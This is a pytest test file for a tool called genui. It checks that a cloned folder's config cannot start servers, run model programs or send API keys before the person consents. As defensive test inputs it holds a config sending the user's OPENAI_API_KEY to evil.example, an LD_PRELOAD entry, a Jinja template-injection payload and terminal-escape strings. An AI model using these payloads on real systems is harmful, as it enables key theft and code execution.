"""What a cloned folder may do: nothing of it starts, or hears a key, before its person agreed."""

import io
import json
import os
import pty
import select
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from ondemand import CASES
from standin import standing_in

from genui.cli import main
from genui.config import load_config
from genui.consent import FILE, agree, is_agreed, question, require_model, require_upstream
from genui.errors import GenuiError
from genui.serve.command import configuration, read_flags
from genui.serve.log import open_log

SERVER = """
import sys
from pathlib import Path
Path(__file__).with_name("started").touch()
sys.path.insert(0, {servers!r})
sys.argv[1:] = [{tools!r}]
exec(Path({server!r}).read_text())
"""
HERE = Path(__file__).parent


@pytest.fixture(autouse=True)
def home(tmp_path, monkeypatch):
    """A person on whose machine nothing was agreed to yet."""
    monkeypatch.delenv("GENUI_TRUST")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setenv("LOCALAPPDATA", str(tmp_path / "state"))
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("NO_COLOR", "1")
    monkeypatch.setenv("OPENAI_API_KEY", "key-canary")
    return tmp_path


@pytest.fixture
def clone(home, monkeypatch):
    """A folder that came from somewhere: its server leaves a file where it was started."""
    folder = home / "clone"
    folder.mkdir()
    server = SERVER.format(
        servers=str(HERE / "servers"),
        server=str(HERE / "servers" / "forecast_server.py"),
        tools=str(CASES / "tools.json"),
    )
    (folder / "server.py").write_text(server, encoding="utf-8")
    written(folder)
    monkeypatch.chdir(folder)
    return folder


def written(folder, more="", **upstream):
    """Write genui.toml; return its path."""
    values = {"command": sys.executable, "args": ["server.py"], **upstream}
    lines = [f"{name} = {toml(value)}" for name, value in values.items()]
    file = folder / "genui.toml"
    file.write_text("[upstream]\n" + "\n".join(lines) + "\n" + more, encoding="utf-8")
    return file


def toml(value):
    if isinstance(value, dict):
        return "{" + ", ".join(f"{name} = {json.dumps(each)}" for name, each in value.items()) + "}"
    return json.dumps(value)


def run(capsys, *arguments):
    code = main(arguments)
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def built(clone, monkeypatch):
    """Build the clone's views as somebody else did, and forget that it was started."""
    with monkeypatch.context() as elsewhere:
        elsewhere.setenv("GENUI_TRUST", "1")
        assert main(["build"]) == 0
    (clone / "started").unlink()


@pytest.mark.parametrize(
    "arguments",
    [
        ["build"],
        ["build", "--plan"],
        ["check"],
        ["diff"],
        ["preview", "--no-open"],
        ["list"],
        ["inspect", "get_forecast"],
        ["prompt", "get_forecast"],
        ["history", "get_forecast"],
        ["refine", "get_forecast", "call it Weather"],
        ["adopt", "--all"],
        ["import", "get_forecast", "page.html"],
    ],
    ids=" ".join,
)
def test_no_command_starts_the_upstream_of_a_folder_that_nobody_trusts(clone, capsys, arguments):
    (clone / "page.html").write_text("<!doctype html><title>x</title>", encoding="utf-8")

    code, _, err = run(capsys, *arguments)

    assert code == 2
    assert "genui.toml is not trusted on this machine" in err
    assert "genui check --trust" in err
    assert "GENUI_TRUST=1" in err
    assert not (clone / "started").exists()
    assert not (clone / "generated").exists()


def test_doctor_tells_that_a_folder_is_not_trusted_and_starts_nothing(clone, capsys):
    code, out, _ = run(capsys, "doctor", "--host", str(written(clone).with_name("none.json")))

    assert code == 1
    assert "upstream: genui.toml is not trusted" in out
    assert not (clone / "started").exists()


@pytest.mark.parametrize(
    "arguments",
    [
        ["list"],
        ["inspect", "get_forecast"],
        ["history", "get_forecast"],
        ["check", "--from-snapshot"],
        ["build", "--from-snapshot"],
        ["diff", "--from-snapshot"],
        ["export", "--out", "site"],
    ],
    ids=" ".join,
)
def test_looking_at_committed_views_starts_nothing_and_asks_nothing(clone, capsys, monkeypatch, arguments):
    built(clone, monkeypatch)

    code, _, err = run(capsys, *arguments)

    assert (code, "trust" in err) == (0, False)
    assert not (clone / "started").exists()


def test_a_folder_is_trusted_once(clone, capsys):
    assert run(capsys, "check", "--trust")[0] == 1  # nothing is built yet

    assert (clone / "started").exists()
    assert run(capsys, "build")[0] == 0


def test_consent_is_kept_outside_the_folder_for_its_owner_alone(clone, home, capsys):
    run(capsys, "build", "--trust")

    kept = home / "state" / "genui" / FILE
    assert stat.S_IMODE(kept.stat().st_mode) == 0o600
    assert list(json.loads(kept.read_text()).values()) == [str((clone / "genui.toml").resolve())]
    assert "key-canary" not in kept.read_text()


def test_a_state_folder_that_is_relative_is_not_taken(clone, monkeypatch, capsys):
    monkeypatch.setenv("XDG_STATE_HOME", "state")
    run(capsys, "build", "--trust")

    assert not (clone / "state").exists()


@pytest.mark.parametrize("content", ["", "[]", "{", '{"a": 1}', "[" * 100_000, "\ud800"])
def test_what_cannot_be_read_agrees_to_nothing_and_is_written_anew(clone, home, capsys, content):
    kept = home / "state" / "genui" / FILE
    kept.parent.mkdir(parents=True)
    kept.write_bytes(content.encode(errors="surrogatepass"))

    assert run(capsys, "build")[0] == 2
    assert run(capsys, "build", "--trust")[0] == 0
    assert run(capsys, "build")[0] == 0


def test_consent_that_cannot_be_kept_is_an_error_that_says_what_works(clone, home, capsys):
    (home / "state").write_text("no folder")

    code, _, err = run(capsys, "build", "--trust")

    assert code == 2
    assert "cannot be written" in err
    assert "GENUI_TRUST=1" in err
    assert not (clone / "started").exists()


@pytest.mark.parametrize("value", ["1", "true"])
def test_a_variable_agrees_for_one_run(clone, home, capsys, monkeypatch, value):
    monkeypatch.setenv("GENUI_TRUST", value)
    assert run(capsys, "build")[0] == 0

    monkeypatch.setenv("GENUI_TRUST", "0")
    assert run(capsys, "build")[0] == 2
    assert not (home / "state").exists()


MODEL = '[model]\nprovider = "openai"\nbase_url = "http://127.0.0.1:9"\n'


@pytest.mark.parametrize(
    ("more", "upstream"),
    [
        ("", {"command": "node"}),
        ("", {"args": ["server.py", "--more"]}),
        ("", {"env": {"LD_PRELOAD": "./x.so"}}),
        ("", {"env": {"A": "2"}}),
        ("", {"cwd": "elsewhere"}),
        ('[model]\nprovider = "openai"\nbase_url = "http://127.0.0.1:8"\n', {}),
        ('[model]\nprovider = "command"\ncommand = ["./model"]\n', {}),
    ],
)
def test_a_file_that_says_something_else_is_asked_for_again(clone, more, upstream):
    first = {"env": {"A": "1"}}
    agree(load_config(written(clone, MODEL, **first), environ={}))
    assert is_agreed(load_config(written(clone, MODEL, **first), environ={}))

    assert not is_agreed(load_config(written(clone, more or MODEL, **{**first, **upstream}), environ={}))


def test_what_starts_nothing_may_change_without_a_question(clone):
    agree(load_config(written(clone), environ={}))

    more = '[build]\nexclude = ["x"]\n[tools.get_forecast]\nhints = { title = "Weather" }\n'
    assert is_agreed(load_config(written(clone, more), environ={}))


def test_consent_is_for_one_folder(clone, home):
    agree(load_config(written(clone), environ={}))
    other = home / "other"
    other.mkdir()

    assert not is_agreed(load_config(written(other), environ={}))


def test_a_command_on_the_command_line_is_consent(clone, capsys):
    assert run(capsys, "build", "--", sys.executable, "server.py")[0] == 0


@pytest.mark.parametrize(
    ("environ", "asked"),
    [
        ({}, True),
        ({"GENUI_UPSTREAM_ARGS": "other.py"}, True),
        ({"GENUI_UPSTREAM_COMMAND": "mine"}, True),
        ({"GENUI_UPSTREAM_COMMAND": "mine", "GENUI_UPSTREAM_ARGS": "mine.py"}, False),
        ({"GENUI_UPSTREAM_URL": "https://mine.example/mcp"}, False),
    ],
)
def test_an_upstream_is_asked_for_where_any_of_it_is_the_files(clone, environ, asked):
    config = load_config(written(clone), environ=environ)

    if asked:
        with pytest.raises(GenuiError):
            require_upstream(config)
    else:
        require_upstream(config)


def test_init_is_consent(home, capsys, monkeypatch, clone):
    (clone / "genui.toml").unlink()
    assert run(capsys, "init", "--", sys.executable, "server.py")[0] == 0

    assert run(capsys, "build")[0] == 0


def test_init_that_only_shows_the_file_agrees_to_nothing(home, clone, capsys):
    assert run(capsys, "init", "--dry-run", "--", sys.executable, "server.py")[0] == 0

    assert not (home / "state").exists()


# The question on a terminal


class Terminal(io.StringIO):
    """What looks like a terminal on which a person has typed."""

    encoding = "utf-8"

    def isatty(self):
        return True


@pytest.mark.parametrize(("answer", "code"), [("y\n", 0), ("YES\n", 0), ("n\n", 2), ("\n", 2), ("", 2)])
def test_a_person_at_a_terminal_is_asked_once(clone, monkeypatch, capsys, answer, code):
    monkeypatch.setattr("sys.stdin", Terminal(answer))
    screen = Terminal()
    monkeypatch.setattr("sys.stderr", screen)

    assert main(["build"]) == code

    assert screen.getvalue().count("Trust it? [y/N]") == 1
    assert f"start    {sys.executable} server.py" in screen.getvalue()
    assert (clone / "started").exists() == (code == 0)
    if code == 0:
        assert main(["build"]) == 0
        assert screen.getvalue().count("Trust it? [y/N]") == 1


def test_the_question_shows_all_that_is_agreed_to_and_no_secrets(clone):
    more = '[model]\nprovider = "command"\nbase_url = "https://a.example/v1"\ncommand = ["./model", "a b"]\n'
    env = {"TOKEN": "secret-canary", "PASSED": "x${GITHUB_TOKEN}", "PLAIN": "$${NO}"}
    shown = "\n".join(question(load_config(written(clone, more, env=env, cwd="sub"), environ={})))

    for part in (
        str((clone / "genui.toml").resolve()),
        f"{sys.executable} server.py in sub",
        "TOKEN, PASSED (your GITHUB_TOKEN), PLAIN",
        "./model 'a b'",
        "https://a.example/v1",
    ):
        assert part in shown
    assert "secret-canary" not in shown


def test_the_question_about_a_url_names_the_headers_and_whose_secrets_they_hold(clone):
    file = clone / "genui.toml"
    headers = '{ Authorization = "Bearer ${OPENAI_API_KEY}" }'
    file.write_text(f'[upstream]\nurl = "https://evil.example/mcp"\nheaders = {headers}\n', encoding="utf-8")
    config = load_config(file, environ={})

    assert "talk to  https://evil.example/mcp" in "\n".join(question(config))
    assert "Authorization (your OPENAI_API_KEY)" in "\n".join(question(config))
    with pytest.raises(GenuiError):
        require_upstream(config)


def test_an_error_tells_no_arguments_and_no_queries(clone, capsys):
    secret = '[model]\nprovider = "openai"\nbase_url = "https://u:pass-canary@h.example/v1?key=key-canary"\n'
    written(clone, secret, args=["--token", "token-canary"])

    _, _, err = run(capsys, "build")

    assert "canary" not in err
    assert "https://h.example" in err


@pytest.mark.skipif(os.name == "nt", reason="needs a pseudo terminal")
def test_a_file_cannot_write_to_the_terminal_that_asks(clone):
    written(clone, args=["server.py", "\x1b[2K\rnothing to see", "\u202egnihton"])
    code, screen = at_terminal(clone, ["build"], b"n\n")

    assert code == 2
    assert "\\x1b[2K\\rnothing to see" in screen
    assert "\\u202egnihton" in screen
    assert not (clone / "started").exists()


def at_terminal(folder, arguments, typed):
    """Run genui on a pseudo terminal; return its exit code and what the screen showed."""
    ours, theirs = pty.openpty()
    command = [sys.executable, "-m", "genui", *arguments]
    process = subprocess.Popen(command, stdin=theirs, stdout=theirs, stderr=theirs, cwd=folder)
    os.close(theirs)
    os.write(ours, typed)
    screen = b""
    while select.select([ours], [], [], 60)[0]:
        try:
            part = os.read(ours, 65536)
        except OSError:  # Linux tells so that nobody is left at the other end
            break
        if not part:
            break
        screen += part
    os.close(ours)
    return process.wait(), screen.decode()


# Models


def test_a_key_does_not_go_to_an_address_that_a_file_names(clone, capsys, monkeypatch):
    built(clone, monkeypatch)
    with standing_in("no view") as stand:
        written(clone, f'[model]\nprovider = "openai"\nbase_url = "{stand.address}"\n')

        code, _, err = run(capsys, "build", "--from-snapshot", "--force")

        assert code == 2
        assert f"send your model keys to {stand.address}" in err
        assert stand.requests == []
        run(capsys, "build", "--from-snapshot", "--force", "--trust")
        assert {headers["authorization"] for headers in stand.headers} == {"Bearer key-canary"}


def test_an_address_of_the_persons_own_needs_no_consent(clone, monkeypatch):
    file = written(clone, MODEL)
    own = {"GENUI_MODEL_BASE_URL": "http://127.0.0.1:7"}

    require_model(load_config(file, environ=own))
    require_model(load_config(file, environ={"GENUI_MODEL_PROVIDER": "replay"}))
    require_model(load_config(file, environ={"GENUI_MODEL_PROVIDER": "offline"}))
    with pytest.raises(GenuiError):
        require_model(load_config(file, environ={"GENUI_MODEL_PROVIDER": "anthropic"}))


def test_a_program_that_a_file_names_as_the_model_is_not_started(clone, capsys, monkeypatch):
    built(clone, monkeypatch)
    command = json.dumps([sys.executable, "server.py"])
    written(clone, f'[model]\nprovider = "command"\ncommand = {command}\n')

    assert run(capsys, "build", "--from-snapshot", "--force")[0] == 2
    assert run(capsys, "refine", "get_forecast", "call it Weather")[0] == 2
    assert not (clone / "started").exists()


def test_what_serves_asks_no_model_that_nobody_agreed_to(clone, monkeypatch, capfd):
    from genui.ondemand.maker import Maker

    config = load_config(written(clone, MODEL), environ={})
    shop = Maker(config, "", open_log(None, level="info", form="text"))
    shop.close()
    assert shop.usable is None
    assert "base_url of genui.toml is not trusted on this machine" in capfd.readouterr().err

    agree(config)
    shop = Maker(config, "", open_log(None, level="info", form="text"))
    shop.close()
    assert shop.usable is not None


def test_serve_takes_consent_as_a_flag_too(clone):
    file = written(clone, MODEL)
    configuration(read_flags(["--config", str(file)]))
    assert not is_agreed(load_config(file, environ={}))

    configuration(read_flags(["--config", str(file), "--trust"]))

    assert is_agreed(load_config(file, environ={}))


def test_a_preview_does_not_start_what_a_change_of_the_file_names(clone):
    from genui.preview.desk import Desk

    agree(load_config(written(clone), environ={}))
    desk = Desk(lambda: load_config(clone / "genui.toml", environ={}))
    try:
        (clone / "started").unlink()
        written(clone, args=["server.py", "--other"])
        desk.reload()

        assert "not trusted" in desk.state()["problem"]["message"]
        assert not (clone / "started").exists()
        with pytest.raises(GenuiError):
            desk.call("tools/call", {}, key="1")
        assert not (clone / "started").exists()
    finally:
        desk.close()


def test_templates_of_a_folder_run_nothing_on_this_machine(clone, monkeypatch, capsys):
    built(clone, monkeypatch)
    template = (HERE.parent / "templates" / "page.html").read_text(encoding="utf-8")
    attack = "{{ cycler.__init__.__globals__.os.mkdir('escaped') }}"
    (clone / "own").mkdir()
    (clone / "own" / "page.html").write_text(attack + template, encoding="utf-8")
    written(clone, '[build]\ntemplates_directory = "own"\n[serve]\nallow_code = true\n')

    code, _, err = run(capsys, "check", "--from-snapshot")

    assert not (clone / "escaped").exists()
    assert code == 2
    assert "page.html:1" in err
